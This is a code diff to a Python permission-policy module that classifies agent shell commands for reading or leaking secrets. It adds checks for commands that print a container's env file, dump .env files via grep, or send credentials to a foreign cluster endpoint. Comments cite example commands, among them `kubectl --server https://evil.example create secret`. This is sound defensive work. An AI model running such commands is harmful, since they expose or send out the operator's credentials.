@@ -19,7 +19,11 @@ from __future__ import annotations
 
 import re
 
-from aiperm_tui.policy.addresses import is_metadata_credentials, is_metadata_session_token
+from aiperm_tui.policy.addresses import (
+    is_metadata_credentials,
+    is_metadata_session_token,
+    site_address,
+)
 from aiperm_tui.policy.dataflow import substitutions
 from aiperm_tui.policy.fspaths import (
     classify,
@@ -711,10 +715,11 @@ def _run_command(cmd: Cmd) -> Cmd | None:
 _REVISION_PATH = lazy(r"^[\w./@{}~^-]+:(?!//)[^:\s]+$")
 
 
-# Options whose value is a pattern of names to match or leave out, never a file to read
-# (sixteenth pass): `--exclude .env`, `--include=*.key`, and `-e` where it gives a
-# pattern (git clean's exclude, grep's and sed's expression).
-_PATTERN_OPTIONS = ("--exclude", "--include", "--exclude-dir", "--include-dir", "--ignore")
+# Options whose value is a pattern of names to leave out, never a file to read (sixteenth
+# pass): `--exclude .env`, and `-e` where it gives a pattern (git clean's exclude, grep's
+# and sed's expression). Not `--include`: the files it picks are the ones read (`grep -r
+# --include .env . /etc/app` prints every .env under it, rev16a).
+_PATTERN_OPTIONS = ("--exclude", "--exclude-dir", "--ignore")
 _PATTERN_E = frozenset({"git", "grep", "egrep", "fgrep", "rg", "zgrep"})
 
 
@@ -736,10 +741,14 @@ def handed_files(cmd: Cmd) -> set[str]:
     container's environment (`docker run --env-file F`), the cluster (`kubectl create
     secret ... --from-file=[KEY=]F --from-env-file F --key K --cert C`). A secret the
     command prints back (`kubectl create secret ... -o yaml`) is still read."""
+    if _foreign_endpoint(cmd):
+        return set()  # `kubectl --server https://evil.example create secret ...` (rev16a)
     pos = [a.text for a in cmd.positional()]
     if cmd.name in _ENGINES and pos[:2] in (["secret", "create"], ["config", "create"]):
         return {p for p in pos[3:] if p != "-"}
     if cmd.name in _ENGINES and pos[:1] in (["run"], ["create"], ["container"]):
+        if _prints_environment(cmd, pos):
+            return set()  # `docker run --env-file F alpine env`: the file is printed (rev16a)
         return {v for a in cmd.args if (v := _long_value(cmd, a, "env-file"))}
     if cmd.name != "kubectl" or pos[:2] != ["create", "secret"] or cmd.has("o", "output"):
         return set()
@@ -748,6 +757,39 @@ def handed_files(cmd: Cmd) -> set[str]:
     names = ("from-file", "from-env-file", "key", "cert")
     values = {v for a in cmd.args for n in names if (v := _long_value(cmd, a, n))}
     return values | {v.rsplit("=", 1)[-1] for v in values}
+
+
+# Commands that print their environment whole (`env`, `printenv`, a shell's `set` or
+# `export -p`): a container running one prints the file its `--env-file` filled it from.
+_ENV_PRINTERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
+
+
+def _prints_environment(cmd: Cmd, pos: list[str]) -> bool:
+    """Does the container `docker|podman run|create` starts print its environment: its
+    command or its `--entrypoint` one of the environment printers (rev16a)?"""
+    entry = {v for a in cmd.args if (v := _long_value(cmd, a, "entrypoint"))}
+    words = {command_name(w) for w in (*pos[1:], *entry) if w}
+    return bool(words & _ENV_PRINTERS)
+
+
+# Where a container engine or a cluster client is told to send its requests: a daemon or
+# an API server named by address on the line (`docker -H`, `podman --url`, `kubectl
+# --server|-s`, `DOCKER_HOST=`, `CONTAINER_HOST=`).
+_ENDPOINT_OPTIONS = {"kubectl": ("server", "s"), "oc": ("server", "s")}
+_ENDPOINT_ENV = frozenset({"DOCKER_HOST", "CONTAINER_HOST"})
+
+
+def _foreign_endpoint(cmd: Cmd) -> bool:
+    """Does `cmd` send its requests to a daemon or cluster at an address outside the
+    site (rev16a)? A credential handed to it leaves for that host: it is not kept by the
+    operator's service."""
+    names = _ENDPOINT_OPTIONS.get(cmd.name, ("H", "host", "url"))
+    values = list(cmd.option_values(*names))
+    for a in cmd.simple.assigns:
+        name, _, value = a.text.partition("=")
+        if name in _ENDPOINT_ENV:
+            values.append(value)
+    return any(site_address(v) == "foreign" for v in values)
 
 
 def _kubectl_verbosity(cmd: Cmd) -> int:
@@ -776,7 +818,12 @@ def takes_secret_on_stdin(simple: Simple) -> bool:
         pos[:1] == ["login"] or pos[:2] in (["registry", "login"], ["auth", "login"])
     ):
         return cmd.has("password-stdin", "with-token")
-    return cmd.name in _ENGINES and pos[:2] == ["secret", "create"] and pos[-1] == "-"
+    return (
+        cmd.name in _ENGINES
+        and pos[:2] == ["secret", "create"]
+        and pos[-1] == "-"
+        and not _foreign_endpoint(cmd)
+    )
 
 
 # Registry and forge clients whose `login` reads a password or token on stdin when told
